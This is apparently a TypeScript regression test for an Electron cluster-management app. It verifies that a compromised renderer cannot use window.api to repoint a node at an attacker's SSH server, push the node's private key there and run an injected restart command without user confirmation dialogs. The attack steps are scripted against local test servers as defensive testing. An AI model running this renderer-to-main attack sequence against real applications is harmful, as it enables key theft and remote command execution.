/**
 * A compromised renderer must not send a node's key to a host it picks or run a command of its
 * choosing (issue 13, item 2). The attack runs from page script through window.api alone: editNode
 * points node web at another sshd (the "attacker's") with a restart command of its choosing, then
 * pushNodes brings its own trustHostKeys. Main raises native dialogs (answered by the test through
 * answerMessageBoxes, which the page cannot reach); everything behind them is real: the app on the
 * Electron 25 runtime, two real sshd, the vault.
 */
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { appendFileSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { GUI_SKIP, answerMessageBoxes, launchApp, messageBoxesShown, type Launched } from './harness.ts';
import { createCluster, type Cluster, type TestNode } from '../ssh/fixture.ts';
import { fingerprintOf } from '../ssh/sshd.ts';

describe('push confirmations raised by main (a compromised page cannot push alone)', { skip: GUI_SKIP }, () => {
  let cluster: Cluster;
  let web: TestNode;
  let evil: TestNode;
  let gui: Launched;
  let marker: string;

  /** What page script can do on its own: repoint web, then push it with its own host-key approval. */
  const attack = (jobId: string) =>
    gui.page.evaluate(
      async ({ jobId, target, dest, restart, fingerprint }) => {
        const api = (window as unknown as { api: Record<string, (r?: unknown) => Promise<{ ok: boolean; value?: unknown; error?: { message: string } }>> }).api;
        const edited = await api.editNode!({ name: 'web', dns: ['localhost'], ips: ['127.0.0.1'], ssh: target, dest, restart });
        if (!edited.ok) return { edited };
        return { edited, pushed: await api.pushNodes!({ jobId, names: ['web'], dryRun: false, verify: false, trustHostKeys: [{ node: 'web', fingerprint }] }) };
      },
      { jobId, target: `root@127.0.0.1:${evil.sshd.port}`, dest: evil.dest, restart: `id > ${marker}`, fingerprint: fingerprintOf(evil.sshd.hostKey) },
    );
  const stolen = () => existsSync(join(evil.dest, 'node.key'));
  const knownHosts = () => (existsSync(join(cluster.home, 'known_hosts')) ? readFileSync(join(cluster.home, 'known_hosts'), 'utf8') : '');

  before(async () => {
    cluster = await createCluster();
    web = await cluster.addNode('web');
    // The attacker's sshd (it accepts our key, as a host an attacker runs would).
    evil = await cluster.addNode('evilbox');
    marker = join(evil.dir, 'ran-as-root');
    assert.equal(cluster.cli('issue', 'web').code, 0);
    appendFileSync(join(cluster.userHome, '.ssh', 'known_hosts'), `[127.0.0.1]:${web.sshd.port} ${readFileSync(`${web.sshd.hostKey}.pub`, 'utf8')}`);
    gui = await launchApp({ home: cluster.home, env: { CLUSTER_TRUST_PASSPHRASE_FILE: cluster.pass, HOME: cluster.userHome, SSH_AUTH_SOCK: '' } });
  });
  after(async () => {
    await gui?.close();
    cluster?.close();
  });

  test('the settings dialog answered Cancel: nothing is sent, nothing runs, no host key is recorded', async () => {
    await answerMessageBoxes(gui.app, ['cancel']);
    const out = await attack('attack-1');
    assert.equal(out.edited.ok, true, 'editNode itself is allowed');
    assert.equal(out.pushed?.ok, false, 'the push is refused');
    assert.match(out.pushed?.error?.message ?? '', /not confirmed; nothing was sent/);
    assert.equal(stolen(), false, 'node.key never reached the other host');
    assert.equal(existsSync(marker), false, 'the restart command never ran');
    assert.doesNotMatch(knownHosts(), new RegExp(`:${evil.sshd.port} `), 'the other host key was not recorded');
    const boxes = await messageBoxesShown(gui.app);
    assert.equal(boxes.length, 1);
    assert.match(boxes[0]!.detail, new RegExp(`web: root@127\\.0\\.0\\.1:${evil.sshd.port} -> ${evil.dest.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`), 'the dialog shows the host and destination');
    assert.ok(boxes[0]!.detail.includes(`id > ${marker}`), 'the dialog shows the command');
  });

  test('settings confirmed but the host key dialog answered Cancel: the page\'s trustHostKeys alone accepts nothing', async () => {
    await answerMessageBoxes(gui.app, ['ok', 'cancel']);
    const out = await attack('attack-2');
    assert.equal(out.pushed?.ok, true);
    const [result] = out.pushed!.value as Array<{ status: string; unknownHostKey: { fingerprint: string } | null }>;
    assert.equal(result!.status, 'failed');
    assert.equal(result!.unknownHostKey?.fingerprint, fingerprintOf(evil.sshd.hostKey));
    assert.equal(stolen(), false);
    assert.equal(existsSync(marker), false);
    assert.doesNotMatch(knownHosts(), new RegExp(`:${evil.sshd.port} `));
    const boxes = (await messageBoxesShown(gui.app)).slice(1);
    assert.deepEqual(boxes.map((b) => b.title), ['Confirm push settings', 'Trust this SSH host key?']);
    assert.ok(boxes[1]!.message.includes(`127.0.0.1:${evil.sshd.port}`), 'the host key dialog names the host');
    assert.ok(boxes[1]!.detail.includes(fingerprintOf(evil.sshd.hostKey)), 'and shows the fingerprint');
  });

  test('answered OK, the push proceeds; a later push with the same settings asks nothing; a changed command asks again', async () => {
    // The settings were confirmed in the test before: only the host key is asked now.
    await answerMessageBoxes(gui.app, ['ok']);
    const before = (await messageBoxesShown(gui.app)).length;
    const out = await attack('attack-3');
    const [result] = out.pushed!.value as Array<{ status: string; message: string }>;
    assert.equal(result!.status, 'updated', result!.message);
    assert.equal(stolen(), true, 'what the user confirmed, happens');
    assert.equal(existsSync(marker), true);
    assert.match(knownHosts(), new RegExp(`:${evil.sshd.port} `), 'the confirmed host key is recorded');
    assert.deepEqual((await messageBoxesShown(gui.app)).slice(before).map((b) => b.title), ['Trust this SSH host key?']);

    // Same settings: no dialog at all (the fallback answer would be Cancel).
    const again = await gui.page.evaluate(() => (window as unknown as { api: { pushNodes(r: unknown): Promise<{ ok: boolean; value?: Array<{ status: string }> }> } }).api.pushNodes({ jobId: 'again', names: ['web'], dryRun: false, verify: false }));
    assert.equal(again.ok, true);
    assert.equal(again.value![0]!.status, 'unchanged');
    assert.equal((await messageBoxesShown(gui.app)).length, before + 1, 'no new dialog');

    // The CLI changes the command: the app asks again before its next push (Cancel: refused).
    assert.equal(cluster.cli('node', 'edit', 'web', '--restart', 'true').code, 0);
    const changed = await gui.page.evaluate(() => (window as unknown as { api: { pushNodes(r: unknown): Promise<{ ok: boolean; error?: { message: string } }> } }).api.pushNodes({ jobId: 'changed', names: ['web'], dryRun: false, verify: false }));
    assert.equal(changed.ok, false);
    assert.match(changed.error!.message, /not confirmed/);
    const last = (await messageBoxesShown(gui.app)).at(-1)!;
    assert.equal(last.title, 'Confirm push settings');
    assert.match(last.detail, /runs after install: true/);
  });
});
